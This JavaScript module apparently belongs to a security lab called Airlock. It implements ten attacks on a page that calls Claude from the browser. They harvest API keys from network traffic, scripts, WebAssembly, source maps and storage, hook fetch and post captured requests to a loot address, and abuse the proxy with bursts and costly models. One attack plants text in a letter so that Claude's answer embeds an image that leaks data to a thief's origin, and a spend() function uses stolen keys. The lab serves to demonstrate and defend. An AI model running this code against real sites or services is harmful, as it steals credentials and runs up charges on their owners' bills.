// The ten attacks. Both halves run this very file: the unsafe page in its own tab, Airlock's in the lab.
//
// Each takes the place that it runs in and gives `{ found, lines }`: what it stole, or null, and what it saw on the way. A place has
//   page       the path of the page to search
//   ask        asks Claude as the page does
//   disguises  further ways in which the page asks, by name
//   say        sends a body, an object or a text, to the page's server, with options of fetch
//   dear       a model that the page does not offer
//   loot       where a thief would carry things
//   hear       asks Claude a question as the page does, and gives the answer's words
//   thief      the origin that an image in an answer names
//   collected  what arrived there
//   airlock    where the attack is run on the unsafe half, and it is known: Airlock's origin
import { draw, letter } from "./careless.js";

/**
 * What a key looks like: its beginning, its kind, and so many characters as the lab's have. The length counts, since in a program
 * nothing parts a string from the next; so does the kind, since Airlock's own page knows how keys begin, to warn of them.
 */
const SHAPE = /sk-ant-(?:lab|[a-z]+\d\d)-[\w-]{37}/;
/** Requests of a burst: more than a person makes at once. */
const BURST = 30;

const result = (found, lines) => ({ found: found ?? null, lines });
const key = (text) => text.match(SHAPE)?.[0];
const short = (text) => (text.length > 100 ? `${text.slice(0, 100)} …` : text);

/** The addresses of the page's own files of a kind, as its HTML names them. */
async function files(place, kind) {
  const html = await (await fetch(place.page)).text();
  // A minified page has no quotes around what an attribute names.
  const named = html.matchAll(/["'=]([^"'=<>\s]+\.(?:js|wasm))(?=["'>\s])/g);
  const names = [...named].map((match) => new URL(match[1], location.origin).pathname);
  return [...new Set(names)].filter((name) => name.endsWith(kind));
}

/** Listens to `fetch` while `act` runs, and gives what passed: address, headers and body of each request. */
async function overhear(act) {
  const real = globalThis.fetch;
  const heard = [];
  globalThis.fetch = (input, init) => {
    const { method, url, headers } = new Request(input, init);
    heard.push({ method, url, headers: [...headers], body: typeof init?.body === "string" ? init.body : "" });
    return real.call(globalThis, input, init);
  };
  try {
    await act();
  } finally {
    globalThis.fetch = real;
  }
  return heard;
}

/** How long a worker's word may take once the request that it is about has been answered. */
const WORD_MS = 2_000;

/** Puts a service worker beneath the page while `act` runs, and gives what it heard, or why there was none. */
async function overhearFromBelow(act) {
  const { serviceWorker } = navigator;
  let worker;
  try {
    worker = await serviceWorker.register("/listener.js");
  } catch (error) {
    return { heard: [], line: `a worker beneath the page: refused, ${short(error.message)}` };
  }
  try {
    const isInCharge = new Promise((done) => serviceWorker.addEventListener("controllerchange", done, { once: true }));
    if (!serviceWorker.controller) await isInCharge;
    const heard = [];
    const isTold = new Promise((done) => {
      serviceWorker.onmessage = ({ data }) => {
        heard.push(data);
        if (keyHeard(heard)) done();
      };
    });
    await act();
    await Promise.race([isTold, new Promise((done) => setTimeout(done, WORD_MS))]);
    return { heard, line: `a worker beneath the page: heard ${heard.map(({ method, url }) => `${method} ${url}`).join(", ")}` };
  } finally {
    await worker.unregister();
  }
}

const asText = ({ method, url, headers }) => [`${method} ${url}`, ...headers.map(([name, value]) => `  ${name}: ${short(value)}`)];
const keyHeard = (heard) => key(JSON.stringify(heard));

/** The sections of a WebAssembly program, each with its name, its first byte and its length. */
function sections(bytes) {
  const NAMES = ["custom", "type", "import", "function", "table", "memory", "global", "export", "start", "element", "code", "data", "data count"];
  const found = [];
  for (let at = 8; at < bytes.length; ) {
    const id = bytes[at++];
    let length = 0;
    // Numbers are written in groups of seven bits, the lowest first.
    for (let shift = 0, more = true; more; shift += 7) {
      length += (bytes[at] & 0x7f) * 2 ** shift;
      more = (bytes[at++] & 0x80) !== 0;
    }
    found.push({ name: NAMES[id] ?? `section ${id}`, start: at, length });
    at += length;
  }
  return found;
}

/** Bytes in a row of a hex view: what fits beside another half. */
const ROW = 8;

/** The lines of a hex view: address, bytes and letters. */
function hexView(bytes, from, to) {
  const lines = [];
  for (let at = from - (from % ROW); at < to; at += ROW) {
    const row = [...bytes.slice(at, at + ROW)];
    const digits = row.map((byte) => byte.toString(16).padStart(2, "0")).join(" ");
    const letters = row.map((byte) => (byte > 31 && byte < 127 ? String.fromCharCode(byte) : "·")).join("");
    lines.push(`${at.toString(16).padStart(8, "0")}  ${digits}  ${letters}`);
  }
  return lines;
}

/** Everything in the databases of this origin, as text. */
async function databases() {
  const entries = [];
  for (const { name } of (await indexedDB.databases?.()) ?? []) {
    const database = await new Promise((done) => {
      const opening = indexedDB.open(name);
      opening.onsuccess = () => done(opening.result);
      opening.onerror = () => done(null);
    });
    for (const store of database?.objectStoreNames ?? []) {
      const values = await new Promise((done) => {
        const reading = database.transaction(store).objectStore(store).getAll();
        reading.onsuccess = () => done(reading.result);
        reading.onerror = () => done([]);
      });
      entries.push([`IndexedDB ${name}/${store}`, JSON.stringify(values)]);
    }
    database?.close();
  }
  return entries;
}

/** Sends one request to the page's server, and says what came of it. */
async function attempt(place, what, body, options) {
  try {
    const answer = await place.say(body, options);
    const id = answer.headers.get("request-id");
    answer.body?.cancel();
    return { is_through: answer.ok, id, line: `${what}: ${answer.ok ? "let through" : "refused"}, ${answer.status}` };
  } catch {
    return { is_through: false, id: null, line: `${what}: no answer` };
  }
}

/**
 * Asks Airlock from a page of another origin, with the visitor's cookie, in the only way that a browser lets such a page try: blindly.
 * Whether it was refused, this page is not even told; the browser's own tools show it.
 */
async function fromElsewhere(airlock) {
  const blindly = { method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify(question()) };
  const what = `from this origin to Airlock (${airlock})`;
  try {
    const answer = await fetch(`${airlock}/api/chat`, blindly);
    return `${what}: answered, ${answer.status || "out of this page's sight"}`;
  } catch {
    return `${what}: nothing that this page may read; the Network tab shows 403`;
  }
}

const question = (more) => ({ model: "claude-haiku-5-5", max_tokens: 16, messages: [{ role: "user", content: "Hello" }], ...more });

export const attacks = {
  async network(place) {
    const heard = await overhear(place.ask);
    return result(keyHeard(heard), heard.flatMap(asText));
  },

  async script(place) {
    const lines = [];
    let found;
    for (const name of await files(place, ".js")) {
      const text = await (await fetch(name)).text();
      const hit = text.search(SHAPE);
      lines.push(`${name}: ${text.length} characters, ${hit < 0 ? "no key" : `a key at ${hit}`}`);
      found ??= key(text);
    }
    return result(found, lines);
  },

  async wasm(place) {
    const lines = [];
    let found;
    for (const name of await files(place, ".wasm")) {
      const bytes = new Uint8Array(await (await fetch(name)).arrayBuffer());
      const text = new TextDecoder("latin1").decode(bytes);
      const hit = text.search(SHAPE);
      lines.push(`${name}: ${bytes.length} bytes, ${hit < 0 ? "no key" : `a key at ${hit}`}`);
      if (hit < 0) continue;
      found ??= key(text);
      const section = sections(bytes).find(({ start, length }) => start <= hit && hit < start + length);
      lines.push(`in the section “${section?.name}”:`, ...hexView(bytes, hit, hit + 48));
    }
    return result(found, lines);
  },

  async map(place) {
    const lines = [];
    let found;
    for (const name of [...(await files(place, ".js")), ...(await files(place, ".wasm"))]) {
      const text = name.endsWith(".js") ? await (await fetch(name)).text() : "";
      const named = text.match(/\/\/# sourceMappingURL=(\S+)\s*$/)?.[1] ?? `${name.split("/").at(-1)}.map`;
      const address = new URL(named, new URL(name, location.origin));
      let map;
      if (address.protocol === "data:") map = JSON.parse(atob(address.href.split(",")[1]));
      else {
        const answer = await fetch(address);
        map = answer.ok && (await answer.json().catch(() => null));
      }
      if (!map) {
        lines.push(`${name}: no map`);
        continue;
      }
      lines.push(`${name}: a map of ${map.sources?.join(", ")}`);
      found ??= key((map.sourcesContent ?? []).join("\n"));
    }
    return result(found, lines);
  },

  async storage() {
    const entries = [
      ...Object.entries(localStorage).map(([name, value]) => [`localStorage ${name}`, value]),
      ...Object.entries(sessionStorage).map(([name, value]) => [`sessionStorage ${name}`, value]),
      ["cookies that scripts can read", document.cookie || "none"],
      ...(await databases()),
    ];
    // What the lab keeps of your own progress is no find.
    const others = entries.filter(([name]) => name !== "localStorage airlock.lab");
    return result(key(others.map(([, value]) => value).join("\n")), others.map(([name, value]) => `${name}: ${short(value)}`));
  },

  async hook(place) {
    const real = globalThis.fetch;
    const heard = await overhear(place.ask);
    const lines = heard.flatMap(asText);
    try {
      await real(place.loot, { method: "POST", mode: "no-cors", body: JSON.stringify(heard) });
      lines.push(`carried away to ${place.loot}`);
    } catch {
      lines.push("carried away: no, the page's policy lets nothing leave its origin");
    }
    const below = await overhearFromBelow(place.ask);
    lines.push(below.line);
    return result(keyHeard([...heard, ...below.heard]), lines);
  },

  async disguise(place) {
    const scripts = await Promise.all((await files(place, ".js")).map(async (name) => (await fetch(name)).text()));
    const lines = [];
    let found;
    for (const [name, act] of Object.entries(place.disguises)) {
      const stolen = keyHeard(await overhear(act));
      const isInSight = stolen && scripts.some((text) => text.includes(stolen));
      lines.push(`${name}: ${stolen ? `heard when it was sent${isInSight ? "" : ", though no search of the scripts finds it"}` : "no key was sent"}`);
      found ??= stolen;
    }
    return result(found, lines);
  },

  async proxy(place) {
    const tries = [
      await attempt(place, "without a cookie", question(), { credentials: "omit" }),
      await attempt(place, `a dearer model (${place.dear})`, question({ model: place.dear })),
      await attempt(place, "an answer of 60,000 tokens", question({ max_tokens: 60_000 })),
      await attempt(place, "600 KB of text", question({ messages: [{ role: "user", content: "word ".repeat(120_000) }] })),
    ];
    const burst = await Promise.all(Array.from({ length: BURST }, (_, index) => attempt(place, `burst ${index}`, question())));
    const through = burst.filter(({ is_through }) => is_through).length;
    const lines = [...tries.map(({ line }) => line), `${BURST} at once: ${through} let through`];
    if (place.airlock) lines.push(await fromElsewhere(place.airlock));
    const isThrough = tries.some(({ is_through }) => is_through) || through === BURST;
    return result(isThrough ? (tries[1].id ?? "its owner's money") : null, lines);
  },

  async echo(place) {
    const lines = [];
    let found;
    for (const [what, body] of [
      ["an unknown model", question({ model: "no-such-model" })],
      ["no messages", question({ messages: [] })],
      ["not JSON", "{"],
      ["a wrong type", question({ max_tokens: "many" })],
    ]) {
      const answer = await place.say(body);
      const text = await answer.text();
      lines.push(`${what}: ${answer.status} ${short(text)}`);
      found ??= key(text);
    }
    return result(found, lines);
  },

  async image(place) {
    // A word of its own, so that what arrives can be told from what arrived before.
    const code = crypto.randomUUID().slice(0, 8);
    const answer = await place.hear(letter(place.thief, `My booking code is ${code}. Sum up this letter.`));
    const images = await draw(answer, document.createElement("div"));
    const loot = (await place.collected()).find(({ said }) => said.includes(code));
    const lines = images.map(({ src, has_come }) => `the answer names ${src}: ${has_come ? "loaded" : "not loaded"}`);
    lines.push(loot ? `the thief received “${loot.said}”` : "the thief received nothing of it");
    return result(loot?.receipt, lines);
  },
};

/** Spends a stolen key from anywhere, as a thief does: a long answer of a dear model. Says what came of it. */
export async function spend(claude, stolen) {
  const answer = await fetch(`${claude}/v1/messages`, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      "anthropic-version": "2023-06-01",
      "x-api-key": stolen,
      "anthropic-dangerous-direct-browser-access": "true",
    },
    body: JSON.stringify(question({ model: "claude-opus-5-5", max_tokens: 4000 })),
  });
  const { usage } = await answer.json();
  return [`Spent: the key works, ${answer.status}; ${usage?.output_tokens ?? 0} tokens of claude-opus-5-5 on its owner's bill`];
}
